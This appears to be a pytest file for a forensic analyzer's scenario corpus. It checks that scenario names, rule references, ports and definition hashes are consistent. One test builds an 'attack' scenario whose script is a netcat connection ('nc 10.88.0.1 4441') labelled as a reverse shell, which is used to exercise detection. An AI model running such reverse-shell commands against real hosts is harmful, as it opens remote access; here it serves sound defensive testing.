"""The corpus's scenario table: well formed, hashed by definition, and every rule it names is a
rule of the analyzer (no node needed)."""

from __future__ import annotations

import dataclasses
import re

import pytest
import yaml

from forensic_checkpoint_dev.corpus import runner, scenarios
from forensic_checkpoint_dev.corpus.model import Client, Expect, Scenario, Select, definition_hash
from forensic_checkpoint_dev.corpus.truth import placeholders
from forensic_checkpoint_dev.repo import REPO_ROOT

RULES = REPO_ROOT / "operator/src/forensic_checkpoint/analysis/findings/rules.yaml"


def _rule_ids() -> set[str]:
    data = yaml.safe_load(RULES.read_text())
    ids = {r["id"] for r in data["rules"]}
    creds = data["credentials"]
    ids.add(creds["env_name"]["id"])
    ids.update(d["id"] for d in creds["detectors"])
    return ids


def test_names_are_unique_pod_names_and_kinds_are_known() -> None:
    names = [s.name for s in scenarios.SCENARIOS]
    assert len(names) == len(set(names))
    for s in scenarios.SCENARIOS:
        assert re.fullmatch(r"[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?", s.name), s.name
        assert s.kind in ("benign", "attack")


def test_attacks_expect_findings_and_benign_workloads_expect_silence() -> None:
    for s in scenarios.SCENARIOS:
        if s.kind == "attack":
            assert s.expect, f"{s.name}: an attack with no expected finding"
        else:
            assert not s.expect and not s.allow, f"{s.name}: benign expects nothing above low"


def test_every_rule_named_is_an_analyzer_rule() -> None:
    known = _rule_ids()
    for s in scenarios.SCENARIOS:
        named = {r for e in s.expect for r in e.rules} | set(s.allow)
        assert named <= known, f"{s.name}: unknown rules {named - known}"


def test_listener_ports_are_distinct_and_the_slice_has_both_kinds() -> None:
    ports = [s.listener.port for s in scenarios.SCENARIOS if s.listener]
    assert len(ports) == len(set(ports))
    kinds = {s.kind for s in scenarios.by_name(scenarios.SLICE)}
    assert kinds == {"benign", "attack"}
    with pytest.raises(KeyError, match="nope"):
        scenarios.by_name(["nope"])


def test_the_definition_hash_follows_the_definition_and_its_context() -> None:
    s = scenarios.SCENARIOS[0]
    assert definition_hash(s, "img") == definition_hash(dataclasses.replace(s), "img")
    assert definition_hash(s, "img") != definition_hash(dataclasses.replace(s, script="x"), "img")
    assert definition_hash(s, "img") != definition_hash(s, "img2")
    assert runner.scenario_hash(s, "img") != runner.scenario_hash(s, "img2")


def test_the_pod_runs_the_substituted_script_with_its_sidecar_and_volume() -> None:
    s = Scenario(
        "x", "attack", "", script="nc @HOST@ @PORT@", ready="true",
        expect=(Expect("reverse-shell", Select("sh")),), sidecar="tail -F /shared/log",
        volume="/data", clients=(Client(80),),
    )  # fmt: skip
    pod = runner.pod_manifest(s, "img:1", placeholders("10.88.0.1", 4441, None))
    app, sidecar = pod["spec"]["containers"]
    assert app["command"] == ["bash", "-c", "nc 10.88.0.1 4441"]
    assert app["imagePullPolicy"] == "Never" and app["image"] == "img:1"
    assert {m["mountPath"] for m in app["volumeMounts"]} == {"/data", "/shared"}
    assert sidecar["volumeMounts"] == [{"name": "shared", "mountPath": "/shared"}]
    assert pod["spec"]["restartPolicy"] == "Never"


def test_postgres_client_sends_a_protocol_3_startup_message() -> None:
    (client,) = next(s for s in scenarios.SCENARIOS if s.name == "postgres-session").clients
    raw = bytes.fromhex(client.send_hex)
    assert int.from_bytes(raw[:4], "big") == len(raw)
    assert int.from_bytes(raw[4:8], "big") == 196608
    assert raw[8:].split(b"\0")[:4] == [b"user", b"postgres", b"database", b"postgres"]
